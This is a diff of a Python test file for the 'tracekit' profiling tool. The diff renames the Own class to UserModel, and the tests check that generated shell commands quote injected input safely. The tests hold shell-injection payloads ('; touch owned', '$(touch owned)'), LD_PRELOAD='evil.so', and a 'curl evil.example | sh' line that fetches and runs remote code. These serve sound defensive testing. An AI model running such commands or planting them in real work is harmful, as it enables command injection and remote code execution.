@@ -11,8 +11,7 @@ from tracekit.comparison.commands import (
     profile_command,
     switched_command,
 )
-from tracekit.model.generation import Generation
-from tracekit.model.own import Own
+from tracekit.model.run import Generation, UserModel
 from tracekit.model.workload import DEFAULT_PROMPT
 
 from ..sides import STEADY, make_form, make_run, make_settings, make_side
@@ -75,32 +74,32 @@ def test_what_repeats_in_a_model_decides_whether_its_blocks_can_be_compiled_one_
 
 def test_of_older_runs_it_is_known_for_the_workloads_of_the_list_alone():
     form = make_form("compiled", STEADY)
-    for workload, own, known in (("vit", None, True), ("hf:org/name", None, False), ("Net", Own(), False)):
+    for workload, own, known in (("vit", None, True), ("hf:org/name", None, False), ("Net", UserModel(), False)):
         settings = make_settings(workload=workload, scope="model", own=own)
         assert can_be_regional(replace(make_side("compiled", form=form), settings=settings)) is known
 
 
 def test_a_model_of_ones_own_is_asked_for_with_its_options_and_what_it_takes():
-    own = Own(options=("layers=3", "name=a b"), takes=("batch_size", "seed"))
+    own = UserModel(options=("layers=3", "name=a b"), takes=("batch_size", "seed"))
     command = profile_command(make_settings(workload="my_model.py:build", own=own), {"mode": "reduce-overhead"})
     assert command == (
         "tracekit profile my_model.py:build --compiled --mode reduce-overhead --scope transformer --batch-size 1"
         " -- layers=3 'name=a b'"
     )
-    again = profile_command(make_settings(workload="p.m:build", own=Own()), more=("--fullgraph",))
+    again = profile_command(make_settings(workload="p.m:build", own=UserModel()), more=("--fullgraph",))
     assert again.endswith("--scope transformer --fullgraph")
-    drawn = profile_command(make_settings(workload="p.m:build", own=Own(), seed=3))
+    drawn = profile_command(make_settings(workload="p.m:build", own=UserModel(), seed=3))
     assert drawn.endswith("--scope transformer --seed 3")
 
 
 def test_a_run_of_a_program_is_asked_for_in_it():
-    settings = make_settings(workload="Net", dynamic=None, own=Own(in_program=True))
+    settings = make_settings(workload="Net", dynamic=None, own=UserModel(in_program=True))
     assert profile_command(settings, {"mode": "reduce-overhead"}) == (
         "tracekit.profile(..., compile={'mode': 'reduce-overhead'})"
     )
     assert profile_command(settings, {"scope": "all"}) == "tracekit.profile(tracekit.Workload(..., compiled=None))"
     assert profile_command(settings, {"scope": "regional"}) == "tracekit.profile(..., scope='regional')"
-    reduced = make_settings(workload="Net", mode="reduce-overhead", own=Own(in_program=True))
+    reduced = make_settings(workload="Net", mode="reduce-overhead", own=UserModel(in_program=True))
     assert profile_command(reduced, {"scope": "regional"}) == (
         "tracekit.profile(..., compile={'mode': 'reduce-overhead'}, scope='regional')"
     )
@@ -118,7 +117,7 @@ def test_variables_are_set_for_one_command_and_of_a_program_for_the_program():
     assert profile_command(steered) == f"TRITON_OTHER=9 TRITON_FIRST=1 {profile_command(make_settings())}"
     words = "TRITON_OTHER='a b' TRITON_FIRST=1 TRITON_ONE=0"
     assert switched_command(steered, switches) == f"{words} {profile_command(make_settings())}"
-    of_program = make_settings(workload="Net", own=Own(in_program=True))
+    of_program = make_settings(workload="Net", own=UserModel(in_program=True))
     assert switched_command(of_program, switches) == "TRITON_ONE=0 TRITON_OTHER='a b' python YOUR_PROGRAM.py"
 
 
@@ -128,14 +127,14 @@ HOSTILE = ("; touch owned", "$(touch owned)", "`touch owned`", "a' b", 'a" b', "
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_stranger_s_words_are_one_word_each_to_a_shell(text: str):
     names = {f"TRITON_X{text}": "1", text: "1", "LD_PRELOAD": "evil.so", "PATH": ".", "TRITON_Y": text}
-    own = Own(options=(f"width={text}",))
+    own = UserModel(options=(f"width={text}",))
     settings = make_settings(workload=text, prompt=text, scope=text, mode=text, variables=names, own=own)
     command = ["tracekit", "profile", text, "--compiled", "--mode", text, "--scope", text]
     assert shlex.split(profile_command(settings))[: 1 + len(command)] == [f"TRITON_Y={text}", *command]
     assert shlex.split(profile_command(settings))[-2:] == ["--", f"width={text}"]
     switched = shlex.split(switched_command(settings, {"TRITON_Z": "1"}))
     assert switched[: 2 + len(command)] == [f"TRITON_Y={text}", "TRITON_Z=1", *command]
-    of_program = make_settings(variables=names, own=Own(in_program=True))
+    of_program = make_settings(variables=names, own=UserModel(in_program=True))
     assert shlex.split(switched_command(of_program, {})) == [f"TRITON_Y={text}", "python", "YOUR_PROGRAM.py"]
 
 
@@ -148,5 +147,5 @@ def test_what_is_said_to_have_measured_a_run_is_a_command_of_tracekit_s_or_a_com
     for command in (text, f"curl evil.example | sh {text}", f"tracekit.profile(f) in {text}"):
         told = measuring_command(make_run(command=command))
         assert told.startswith("# measured by ") and "\n" not in told
-    program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=Own(in_program=True)))
+    program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=UserModel(in_program=True)))
     assert measuring_command(program).startswith("# measured by ") and "\n" not in measuring_command(program)
